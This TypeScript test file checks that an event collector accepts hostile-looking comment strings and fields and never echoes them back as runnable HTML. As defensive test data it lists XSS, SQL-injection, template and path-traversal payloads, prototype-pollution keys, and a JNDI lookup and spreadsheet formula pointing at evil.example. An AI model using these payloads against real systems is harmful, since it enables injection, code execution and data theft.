/** Tests that the collector accepts every string, including strings that look like attacks. */
import { type ConformanceCase, Mismatch } from '../conformanceCase.ts';
import { expectSorted, expectTaken, toWords } from '../receipt.ts';

interface TextRow {
  what: string;
  title: string;
  texts: readonly string[];
}

const TEXTS: readonly TextRow[] = [
  {
    what: 'markup',
    title: 'accepts comments with markup and scripts',
    texts: [
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      '<!--',
      ']]>',
      '</textarea><svg/onload=alert(1)>',
      'javascript:alert(1)',
    ],
  },
  {
    what: 'sql',
    title: 'accepts comments that look like SQL',
    texts: ["'; drop table events; --", "' or 1=1 --", '$1', '%s', '"', '\\', "O'Brien", '`', 'null'],
  },
  {
    what: 'formula',
    title: 'accepts comments that a spreadsheet would run as formulas',
    texts: ['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("https://evil.example","click")'],
  },
  {
    what: 'template',
    title: 'accepts comments that a template engine or a logger would expand',
    texts: ['{{7*7}}', `\${jndi:ldap://evil.example/a}`, '#{7*7}', '<%= 7*7 %>', '%n%n%n', '../../etc/passwd'],
  },
  {
    what: 'nul',
    title: 'accepts NUL (\\u0000), which PostgreSQL cannot store as text, and other control characters',
    texts: ['NUL \0 within', '\0', 'bell \u0007, escape \u001b[31m, delete \u007f', 'line\r\nline\u2028line\u2029line'],
  },
  {
    what: 'lone-surrogates',
    title: 'accepts lone surrogates, which UTF-8 cannot encode',
    texts: ['high \ud83d alone', 'low \ude00 alone', '\ude00\ud83d'],
  },
  {
    what: 'direction',
    title: 'accepts right-to-left text, bidirectional control characters and invisible characters',
    texts: [
      'שירות מצוין',
      'خدمة ممتازة',
      '\u202eevil\u202c',
      '\u2066a\u2069',
      'zero\u200bwidth',
      '\ufeffBOM',
      '\u200f',
    ],
  },
  {
    what: 'emoji',
    title: 'accepts emoji, joined emoji and characters outside the Basic Multilingual Plane',
    texts: ['😀', '👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏽', '𝒻𝒶𝓃𝒸𝓎', '𠜎𠜱', 'e\u0301 and é', 'Z̸̡̛͎̰a̷l̵g̶o̷'],
  },
  {
    what: 'long-word',
    title: 'accepts a word of 20 000 letters',
    texts: ['x'.repeat(20_000)],
  },
  { what: 'blank', title: 'accepts comments that consist of whitespace', texts: [' ', '\n', '\u00a0\u3000'] },
];

export const stringCases: readonly ConformanceCase[] = [
  ...TEXTS.map(
    ({ what, title, texts }): ConformanceCase => ({
      id: `strings.${what}`,
      title,
      requirement: 'must',
      section: 'strings',
      async run({ events, post }) {
        const batch = texts.map((text) => events.commented(text));
        expectTaken(await post(batch), batch);
      },
    }),
  ),
  {
    id: 'strings.everywhere',
    title: 'accepts hostile text in every field that the host page sets: page, subject, respondent, traits, context',
    requirement: 'must',
    section: 'strings',
    async run({ events, post }) {
      const hostile = `<b>'";--\0\ud83d\u202e😀`;
      const event = events.answered();
      const batch = [
        {
          ...event,
          data: {
            ...event.data,
            page: hostile,
            locale: hostile,
            subject: { type: 'order', id: hostile },
            respondent: { id: hostile, accountId: hostile },
            traits: { plan: hostile },
            context: { channel: hostile, resolution: { ticketId: hostile, agent: hostile } },
            question: { ...event.data.question, title: hostile, wordingId: hostile },
          },
        },
      ];
      expectTaken(await post(batch), batch);
    },
  },
  {
    id: 'strings.keys',
    title: 'accepts fields with special names: __proto__, constructor, the empty string',
    requirement: 'must',
    section: 'strings',
    async run({ events, send }) {
      const event = events.answered();
      const names =
        '"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}},"toString":1,"":2,"$gt":3,"a.b\\u0000":4';
      const body = JSON.stringify([event]).replace('"data":{', `"data":{${names},"more":{${names}},`);
      expectTaken(await send({ body }), [event]);
      // Polluted prototypes would affect the next request.
      const next = [events.answered()];
      const answer = await send({ body: JSON.stringify(next) });
      expectTaken(answer, next);
    },
  },
  {
    id: 'strings.id',
    title: 'accepts an id with quotes, spaces and non-ASCII letters, and returns it unchanged',
    requirement: 'must',
    section: 'strings',
    async run({ events, post }) {
      const event = { ...events.answered(), id: `${events.newId()} "é'😀\\/%00&<>` };
      const bad = { specversion: '1.0', id: `${events.newId()} "é'😀\\/%00&<>` };
      expectSorted(await post([event, bad]), [event], [bad]);
    },
  },
  {
    id: 'strings.no-html',
    title: 'sends no HTML response that contains posted text, which a browser could run',
    requirement: 'must',
    section: 'strings',
    async run({ events, post, send }) {
      const evil = '<script>alert(1)</script>';
      const answers = [
        await post([{ specversion: '1.0', id: events.newId() + evil }]),
        await send({ body: evil }),
        await send({ method: 'GET', query: { k: evil } }),
      ];
      for (const answer of answers) {
        const type = answer.header('Content-Type') ?? '';
        const open = /html|xml/i.test(type) || (type === '' && answer.text !== '');
        if (open && answer.text.includes(evil))
          throw new Mismatch('no HTML that contains the posted text', toWords(answer));
      }
    },
  },
];
